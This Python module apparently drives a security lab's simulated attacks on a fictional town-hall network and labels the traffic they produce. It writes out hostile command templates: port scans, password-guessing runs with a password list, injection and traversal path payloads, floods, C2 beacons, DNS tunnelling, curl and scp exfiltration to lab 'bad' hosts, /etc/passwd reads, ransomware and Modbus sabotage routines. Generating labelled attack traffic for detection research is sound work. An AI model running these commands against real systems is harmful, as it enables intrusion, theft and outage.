# SPDX-License-Identifier: AGPL-3.0-or-later
"""Attacks of the laboratory, with the tools that attackers use, each bounded in count and time.

An attack is a function of the laboratory, who attacks, dice and how long it may last; @attack says its family and from
where it may be played: "out", a stranger on the internet; "in", malware on a machine that works on; "rogue", a machine that
was plugged in. All that the actor sends while `with actor.does(family)` holds is labelled.
"""
import shlex
import time

import services
import work
from lab_people import AGENTS, ASK, with_part
from lab_serve import BAD, BAD_NAMES, HERD, PY, WORLD
from town import HERE

ATTACKS = []
WORDS = (
    '123456 password azerty valbourg Valbourg2024 mairie59 bienvenue qwerty letmein admin123 P@ssw0rd Ete2025 Hiver2025 motdepasse '
    'secret changeme root toor test1234 Valbourg59 Mairie2025 Mairie2026 Printemps2026 iloveyou doudou chouchou marseille nicolas '
    'jetaime loulou dragon football monkey master hello freedom whatever trustno1 654321 sunshine princess welcome shadow ashley'
).split()
PATHS = (
    '../../../../etc/passwd ..%2f..%2fetc%2fpasswd .git/config .env wp-login.php phpmyadmin/ admin/ backup.zip config.php.bak '
    'cgi-bin/test.sh server-status xmlrpc.php api/v1/users vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php shell.php login.jsp '
    'manager/html actuator/env solr/admin owa/auth.owa HNAP1 boaform/admin ?id=1%27%20or%201=1 ?q=%3Cscript%3Ealert(1)%3C/script%3E'
).split()


def attack(family, *places, needs=None):
    def keep(play):
        ATTACKS.append((family, places, needs, play))
        return play

    return keep


def ask(actor, action, timeout, **keys):
    return actor.run([*ASK, action, *(f'{k}={v}' for k, v in keys.items())], timeout)


def targets(lab, dice, count, part=None):
    hosts = with_part(lab, part) if part else [lab.hosts[name] for name in lab.plan.machines]
    return dice.sample(hosts, min(count, len(hosts)))


def dictionary(actor, dice, count):
    words = WORDS + [f'{word}{dice.randrange(100)}' for word in WORDS for _ in range(4)]
    return actor.host.write(f'mots-{dice.randrange(10**6)}.txt', '\n'.join(dice.sample(words, min(count, len(words)))) + '\n')


# Looking for what is there


@attack('scan', 'out', 'in', 'rogue')
def ports(lab, actor, dice, limit):
    ways = ['-sS', '-sS', '-sT', '-sS -sV --version-light'] + (['-sF', '-sN', '-sX', '-sA'] if actor.ports is None else [])
    speed = dice.choice(('-T3', '-T4', '-T4', '-T5', '-T3 --scan-delay 120ms', '-T3 --max-rate 15'))
    hosts = ' '.join(host.ip for host in targets(lab, dice, dice.randrange(1, 4)))
    with actor.does('scan'):
        actor.run(
            f'timeout {limit} nmap -n -Pn {dice.choice(ways)} --top-ports {dice.choice((60, 150, 400))} {speed} --max-retries 1 {hosts}',
            limit + 5,
        )


@attack('scan', 'out', 'in', 'rogue')
def sweep(lab, actor, dice, limit):
    doors = dice.choice(('445', '22,3389', '23,2323', '80,443,8080', '502,102', '3306,6379,5432', '21,22,23,80,443,445'))
    with actor.does('scan'):
        first = dice.choice((1, 1, 100))
        actor.run(
            f'timeout {limit} nmap -n {dice.choice(("-Pn", "-PS22,80,443", "-sS -Pn"))} -p {doors} {dice.choice(("-T3", "-T4", "-T2"))} --max-retries 0 '
            f'{lab.prefix}.{first}-{first + dice.choice((40, 100))}',
            limit + 5,
        )


@attack('scan', 'out', 'rogue', 'in')
def datagrams(lab, actor, dice, limit):
    hosts = ' '.join(host.ip for host in targets(lab, dice, 3))
    community = actor.host.write('communautes.txt', 'public\nprivate\nmanager\ncisco\nadmin\nsnmp\nmonitor\n')
    with actor.does('scan'):
        if dice.random() < 0.5:
            actor.run(
                f'timeout {limit} nmap -n -Pn -sU --top-ports {dice.choice((20, 60))} -T4 --max-retries 0 {hosts}', limit + 5
            )
        else:
            actor.run(f'for h in {hosts} {lab.prefix}.50; do onesixtyone -c {community} -w 20 $h; done', limit)


@attack('scan', 'rogue', 'out')
def mass(lab, actor, dice, limit):
    with actor.does('scan'):
        for host in targets(lab, dice, 4):
            first = dice.choice((1, 100, 8000))
            actor.run(f'timeout 20 hping3 -q --scan {first}-{first + 120} -S {host.ip}', 25)
        actor.run(f'timeout {limit} sslscan --no-failed {targets(lab, dice, 1, "web")[0].ip}', limit)


# Guessing


@attack('brute-force', 'out', 'in', 'rogue')
def guess(lab, actor, dice, limit):
    doors = [
        (part, way)
        for part, way in (
            ('ssh', 'ssh'),
            ('ftp', 'ftp'),
            ('mail', 'imap'),
            ('mail', 'smtp'),
            ('web', 'http-get'),
            ('sql', 'mysql'),
            ('redis', 'redis'),
            ('telnet', 'telnet'),
            ('smb', 'smb2'),
        )
        if with_part(lab, part)
    ]
    part, way = dice.choice(doors)
    target = targets(lab, dice, 1, part)[0].ip
    words, tasks = dictionary(actor, dice, dice.randrange(25, 120)), dice.choice((1, 2, 4, 8))
    more = {'http-get': '/prive/', 'smtp': '', 'imap': ''}.get(way, '')
    port = {'smtp': '-s 587'}.get(way, '')
    user = '' if way == 'redis' else '-l ' + dice.choice(('admin', 'root', 'mairie', 'test'))
    with actor.does('brute-force'):
        if way in ('ssh', 'ftp', 'imap', 'mysql') and dice.random() < 0.35:
            tool = dice.choice(('medusa', 'ncrack')) if way in ('ssh', 'ftp') else 'medusa'
            if tool == 'medusa':
                actor.run(f'timeout {limit} medusa -h {target} -u admin -P {words} -M {way} -t {tasks}', limit + 5)
            else:
                actor.run(f'timeout {limit} ncrack --user admin -P {words} -T{dice.choice((3, 4))} {way}://{target}', limit + 5)
        else:
            actor.run(
                f'timeout {limit} hydra {user} -P {words} -t {tasks} -W {dice.choice((0, 1, 3))} -I {port} {target} {way} {more}',
                limit + 5,
            )


@attack('brute-force', 'out', 'in', needs='ssh')
def guess_slowly(lab, actor, dice, limit):
    target, end = targets(lab, dice, 1, 'ssh')[0].ip, time.monotonic() + limit * 2
    with actor.does('brute-force'):
        while time.monotonic() < end and lab.wait(dice.uniform(3, 14)):
            password = shlex.quote(dice.choice(WORDS))
            actor.run(f'sshpass -p {password} ssh {work.SSH} {dice.choice(("admin", "root", "mairie"))}@{target} id', 20)


@attack('brute-force', 'out', 'in', 'rogue', needs='rdp')
def guess_desk(lab, actor, dice, limit):
    with actor.does('brute-force'):
        actor.run(
            [
                PY,
                HERE / 'rdp_door.py',
                'try',
                targets(lab, dice, 1, 'rdp')[0].ip,
                'administrateur',
                dice.randrange(20, 80),
                dice.choice((0, 0.3, 2)),
            ],
            limit,
        )


@attack('credential-stuffing', 'out', 'rogue', needs='login')
def stuffing(lab, actor, dice, limit):
    """Stolen pairs on a form, from one address or from a herd that shares the work."""
    target, herd = targets(lab, dice, 1, 'login')[0].ip, actor.host.side == 'net' and dice.random() < 0.6
    walker = lab.hosts['troupeau'] if herd else actor.host
    sources = HERD if herd else [actor.host.ip]
    gap, end = dice.choice((0.02, 0.3, 1.5)), time.monotonic() + limit
    with actor.does('credential-stuffing', sources):
        for n in range(dice.randrange(60, 250)):
            if time.monotonic() > end or lab.ending.is_set():
                break
            source = f'--interface {dice.choice(HERD)}' if herd else ''
            page = 'no' if n % 40 else 'entree'
            walker.run(
                f'curl -s {source} --max-time 6 -A "{dice.choice(AGENTS)}" -d "nom=u{n}&mot={dice.choice(WORDS)}" "http://{target}:8080/{page}?n=400"',
                10,
            )
            time.sleep(gap * dice.uniform(0.5, 1.5))


# Web


@attack('web-attack', 'out', 'in', 'rogue', needs='web')
def web(lab, actor, dice, limit):
    target, way = targets(lab, dice, 1, 'web')[0].ip, dice.randrange(6)
    scheme = dice.choice(('http', 'https'))
    words = actor.host.write(
        'chemins.txt', '\n'.join([*PATHS, *(f'{word}{end}' for word in WORDS for end in ('', '/', '.php', '.bak'))]) + '\n'
    )
    tools = (
        f'gobuster dir -q -k -u {scheme}://{target}/ -w {words} -t {dice.choice((2, 10))}',
        f'ffuf -s -k -u {scheme}://{target}/FUZZ -w {words} -t {dice.choice((3, 12))} -p {dice.choice((0.02, 0.2))}',
        f'dirb http://{target}/ {words} -S -r -w -z {dice.choice((0, 50))}',
        f'sqlmap --batch --flush-session -u "http://{target}:8080/entree?n=300&id=1" --level {dice.choice((1, 2))} --threads {dice.choice((1, 3))} --output-dir=sqlmap',
        f'whatweb -q -a 3 {scheme}://{target}/ ; nmap -n -Pn -p 80,443 --script http-enum,http-headers,http-methods {target}',
        'for p in '
        + ' '.join(shlex.quote(path) for path in PATHS)
        + f'; do curl -sk --path-as-is --max-time 5 -A "Mozilla/5.0 zgrab/0.x" "{scheme}://{target}/$p" -o /dev/null; sleep {dice.choice((0, 0.2, 1))}; done',
    )
    with actor.does('web-attack'):
        actor.run(f'timeout {limit} sh -c {shlex.quote(tools[way])}', limit + 5)


# Making it stop


@attack('denial', 'out', 'rogue', 'in')
def flood(lab, actor, dice, limit):
    host, way = targets(lab, dice, 1, dice.choice(('web', 'ssh')))[0].ip, dice.randrange(6)
    limit = min(limit, 40)
    tools = (
        f'slowhttptest -c {dice.choice((40, 120))} -H -i 5 -r 20 -t GET -u http://{host}/ -x 24 -p 3 -l {limit - 5}',
        f'slowhttptest -c {dice.choice((40, 120))} -B -i 6 -r 20 -s 4096 -t POST -u http://{host}/ -x 10 -p 3 -l {limit - 5}',
        f'hping3 -q -S -p {dice.choice((80, 443, 22))} -i u{dice.choice((3000, 8000))} -c {dice.choice((300, 800))} {host}',
        f'hping3 -q -2 -p {dice.choice((53, 123, 9999))} -d {dice.choice((20, 400))} -i u4000 -c 600 {host}',
        f'ab -q -n 500 -c {dice.choice((10, 40))} -s 5 http://{host}/article-{dice.randrange(9)}.html',
        f'siege -q -b -c {dice.choice((8, 25))} -t {limit - 8}S http://{host}/article-3.html',
    )
    with actor.does('denial'):
        actor.run(f'timeout {limit} {tools[way]}', limit + 5)


# A machine that obeys somebody else


@attack('command', 'in')
def beacon(lab, actor, dice, limit):
    period, jitter = dice.choice((4, 7, 10, 20, 30)), dice.choice((0.0, 0.05, 0.2, 0.5))
    name = dice.choice(BAD_NAMES + BAD)
    down = dice.choice((60, 250, 250, 900))
    url = dice.choice(
        (
            f'https://{name}:8443/a?n={down}',
            f'http://{name}:8080/a?n={down}',
            f'https://{name}/image-{down % 30}.svg',
            f'http://{name}/image-3.svg',
            f'https://{name}:8443/b?k=2&n={down}',
        )
    )
    client = dice.choice(('curl', 'wget', 'python'))
    end = time.monotonic() + min(600, limit * dice.choice((3, 6)))
    data = dice.choice(('', f'id={dice.randrange(10**8):x}', 'x' * dice.randrange(100, 800)))
    fetch = {
        'curl': f'curl -sk --max-time 6 -A "Mozilla/4.0 (compatible; MSIE 8.0)" {f"-d {data}" if data else ""} "{url}" -o /dev/null',
        'wget': f'wget -q --no-check-certificate -T 6 -t 1 -O /dev/null {f"--post-data {data}" if data else ""} "{url}"',
        'python': f'{PY} -c "import ssl,urllib.request as u; u.urlopen(\'{url}\', context=ssl._create_unverified_context(), timeout=6).read()"',
    }[client]
    with actor.does('command'):
        while time.monotonic() < end and lab.wait(period * dice.uniform(1 - jitter, 1 + jitter)):
            actor.run(fetch, 10)
            if dice.random() < 0.05:  # an order: something is fetched, something is sent
                actor.run(
                    f'curl -sk --max-time 15 "https://{name}:8443/s?k=2&n={dice.randrange(20000, 400000)}" -o charge; head -c {dice.randrange(2000, 40000)} /dev/urandom | curl -sk --max-time 9 -T - -X POST "https://{name}:8443/r" -o /dev/null',
                    30,
                )


@attack('command', 'in')
def channel(lab, actor, dice, limit):
    port, tls, kind = dice.choice(((4444, '', 2), (9443, '1', 2), (6667, '', 0), (9443, '1.2', 1)))
    gap = dice.choice(('3:20', '8:11', '15:40', '1:5'))
    with actor.does('command'):
        for _ in range(dice.randrange(1, 4)):
            seconds = dice.uniform(0.6, 1.8) * limit
            ask(
                actor,
                'talk',
                seconds + 30,
                address=dice.choice(BAD),
                port=port,
                tls=tls,
                kind=kind,
                seconds=seconds,
                gap=gap,
                up='15:300',
                down='15:600',
                push=dice.choice((0, 10, 25)),
                size=dice.randrange(10, 200),
            )
            if not lab.wait(dice.uniform(1, 6)):
                break


@attack('dns-tunnel', 'in')
def tunnel(lab, actor, dice, limit):
    if dice.random() < 0.5:
        name = f't{dice.randrange(3)}.{dice.choice(BAD_NAMES)}'
        kind = dice.choice(('TXT', 'NULL', 'CNAME'))
        server = lab.hosts['mal'].start(['iodined', '-f', '-c', '-P', 'demo', '10.53.0.1/27', name], port=53, udp=True)
        with actor.does('dns-tunnel', quiet_lookups=False):
            client = actor.host.start(
                ['iodine', '-f', '-r', '-T', kind, '-m', '160', '-I', '2', '-P', 'demo', lab.router.ip, name], wait=4
            )
            actor.run(
                f'head -c {dice.randrange(4000, 30000)} /dev/urandom | nc -u -w 1 -q 1 10.53.0.1 9; ping -c 60 -i 0.25 -s {dice.randrange(40, 300)} 10.53.0.1',
                min(limit, 40),
            )
            lab.stop(client)
        lab.stop(server)
    else:
        gap, kind = dice.choice((0.05, 0.4, 2)), dice.choice(('TXT', 'A', 'CNAME'))
        with actor.does('dns-tunnel', quiet_lookups=False):
            actor.run(
                f'for n in $(seq {dice.randrange(40, 160)}); do dig @{lab.router.ip} +tries=1 +time=1 {kind} '
                f'$(head -c {dice.randrange(14, 30)} /dev/urandom | od -An -tx1 | tr -d " \\n").$n.{dice.choice(BAD_NAMES)} >/dev/null; sleep {gap}; done',
                limit,
            )


@attack('generated-names', 'in')
def invented(lab, actor, dice, limit):
    names = ' '.join(
        ''.join(dice.choice('abcdefghijklmnopqrstuvwxyz') for _ in range(dice.randrange(9, 18)))
        + dice.choice(('.example', '.test', '.invalid'))
        for _ in range(dice.randrange(40, 160))
    )
    with actor.does('generated-names', quiet_lookups=False):
        actor.run(
            f'for n in {names}; do dig @{lab.router.ip} +tries=1 +time=1 $n >/dev/null; sleep {dice.choice((0, 0.1, 0.5))}; done',
            limit,
        )


@attack('exfiltration', 'in')
def leave(lab, actor, dice, limit):
    address, way = dice.choice(BAD), dice.randrange(5)
    size, pieces = dice.choice((200_000, 1_000_000, 3_000_000)), dice.randrange(2, 8)
    rate = dice.choice(('150k', '600k', '2M'))
    with actor.does('exfiltration'):
        for _ in range(pieces):
            if way == 0:
                actor.run(
                    f'head -c {size} /dev/urandom | curl -sk --max-time 30 --limit-rate {rate} -H Expect: -T - -X POST http://{address}/depot -o /dev/null',
                    40,
                )
            elif way == 1:
                actor.run(
                    f'head -c {size} /dev/urandom | curl -sk --max-time 30 --limit-rate {rate} -H Expect: -T - -X POST https://{address}:8443/u -o /dev/null',
                    40,
                )
            elif way == 2:
                actor.run(
                    f'head -c {size} /dev/urandom > envoi.bin; curl -s --max-time 30 -T envoi.bin --user mairie:{services.USERS["mairie"]} ftp://{address}/',
                    40,
                )
            elif way == 3:
                actor.run(
                    f'head -c {size} /dev/urandom > envoi.bin; sshpass -p {services.USERS["mairie"]} scp -q {work.SSH} -P 2222 envoi.bin mairie@{address}:recu.bin',
                    40,
                )
            else:  # in drops
                actor.run(
                    f'head -c {dice.randrange(5000, 60000)} /dev/urandom | curl -sk --max-time 12 -T - -X POST https://{address}/depot -o /dev/null',
                    15,
                )
            if not lab.wait(dice.uniform(0.5, 9)):
                break


@attack('exfiltration', 'in')
def way_out(lab, actor, dice, limit):
    """A tunnel of ssh towards outside that stays open, with something in it now and then."""
    with actor.does('exfiltration'):
        typed = '; '.join(
            f'sleep {dice.uniform(1, 9):.1f}; head -c {dice.randrange(200, 90000)} /dev/urandom | base64' for _ in range(8)
        )
        actor.run(
            f'({typed}) | sshpass -p {services.USERS["mairie"]} ssh {work.SSH} -p 2222 mairie@{dice.choice(BAD)} "cat >/dev/null"',
            limit + 30,
        )


@attack('miner', 'in')
def miner(lab, actor, dice, limit):
    port, tls = dice.choice(((3333, ''), (3333, ''), (9443, '1')))
    with actor.does('miner'):
        ask(
            actor,
            'talk',
            limit * 5,
            address=dice.choice(BAD),
            port=port,
            tls=tls,
            kind=1,
            seconds=limit * dice.choice((2, 4)),
            gap='3:30',
            up='130:260',
            down='40:90',
            push=dice.choice((8, 20)),
            size=dice.randrange(180, 420),
        )


@attack('worm', 'in', 'rogue')
def spread(lab, actor, dice, limit):
    doors = dice.choice(('445', '23,2323', '22', '445,139', '3389', '5555,7547', '80,8080,81'))
    bases = dice.choice((f'{lab.prefix}', '198.51.100,203.0.113,192.0.2', f'198.51.100,203.0.113,{lab.prefix}'))
    with actor.does('worm'):
        ask(
            actor,
            'knock',
            limit,
            targets=bases,
            ports=doors,
            count=dice.randrange(80, 400),
            gap=dice.choice(('0.005:0.05', '0.05:0.4', '0.3:2')),
            wait=dice.choice((0.3, 1)),
        )


@attack('lateral', 'in', 'rogue', needs='ssh')
def sideways(lab, actor, dice, limit):
    with actor.does('lateral'):
        for host in targets(lab, dice, 5, 'ssh'):
            user = dice.choice(('admin', 'mairie'))
            command = dice.choice(
                (
                    'id; uname -a; cat /etc/passwd',
                    'ls -lR /etc 2>/dev/null | head -400',
                    'tar c /etc 2>/dev/null | head -c 300000',
                    'id',
                )
            )
            work.ssh(actor.host, host.ip, command, user=user)
            if not lab.wait(dice.uniform(0.2, 8)):
                return
        for host in targets(lab, dice, 2, 'redis'):
            actor.run(f'redis-cli -h {host.ip} -a {services.USERS["mairie"]} --no-auth-warning config get "*"', 10)


@attack('lateral', 'in', 'rogue', needs='smb')
def shares(lab, actor, dice, limit):
    host = targets(lab, dice, 1, 'smb')[0].ip
    with actor.does('lateral'):
        tool = dice.randrange(3)
        if tool == 0:
            actor.run(f'timeout {limit} smbmap -H {host} -u mairie -p {services.USERS["mairie"]} -R', limit + 5)
        elif tool == 1:
            for user in ('invite', 'admin', 'mairie', 'compta', 'root'):
                work.smb(actor.host, host, 'ls', user='mairie', password=services.USERS['mairie'] if user == 'mairie' else 'x')
        else:
            actor.run(
                f'timeout {limit} nmap -n -Pn -p 445 --script smb-enum-shares,smb-os-discovery,smb2-security-mode {host}',
                limit + 5,
            )


@attack('ransom', 'in', needs='smb')
def ransom(lab, actor, dice, limit):
    """Reads each file of the share and writes it back changed, in one session or one for each file."""
    host = targets(lab, dice, 1, 'smb')[0].ip
    steps = [f'get dossier-{n}.odt x{n}; put x{n} dossier-{n}.odt' for n in range(12)]
    with actor.does('ransom'):
        for _ in range(dice.randrange(2, 5)):
            for command in ['; '.join(steps)] if dice.random() < 0.5 else steps:
                work.smb(actor.host, host, command, user='mairie')
                if lab.ending.is_set():
                    return


@attack('controllers', 'in', 'rogue', needs='modbus')
def controllers(lab, actor, dice, limit):
    with actor.does('controllers'):
        for host in targets(lab, dice, 3, 'modbus'):
            ask(
                actor,
                'sabotage',
                limit,
                address=host.ip,
                way=dice.choice(('units', 'read', 'identify', 'many', 'write')),
                count=dice.randrange(10, 150),
                gap=dice.choice(('0.005:0.05', '0.05:0.5', '0.5:2')),
            )


@attack('spam', 'in')
def spam(lab, actor, dice, limit):
    size, end = dice.randrange(600, 9000), time.monotonic() + limit
    with actor.does('spam'):
        for _ in range(dice.randrange(30, 120)):
            actor.run(
                f'head -c {size} /dev/urandom | base64 | curl -s --max-time 8 smtp://{dice.choice(WORLD)} --mail-from x{dice.randrange(99)}@boutique1.example --mail-rcpt y@domaine2.example -T -',
                10,
            )
            if time.monotonic() > end or not lab.wait(dice.uniform(0, 1)):
                break


@attack('herd', 'in')
def herd(lab, actor, dice, limit):
    known = dice.sample(HERD, 12) + [f'198.51.100.{dice.randrange(120, 200)}' for _ in range(10)]
    with actor.does('herd'):
        ask(
            actor,
            'peers',
            limit * 3,
            addresses=','.join(known),
            seconds=limit * 2,
            port=dice.choice(('3478', '3478', '20000:60000')),
            gap=dice.choice(('0.1:2', '0.5:8')),
        )
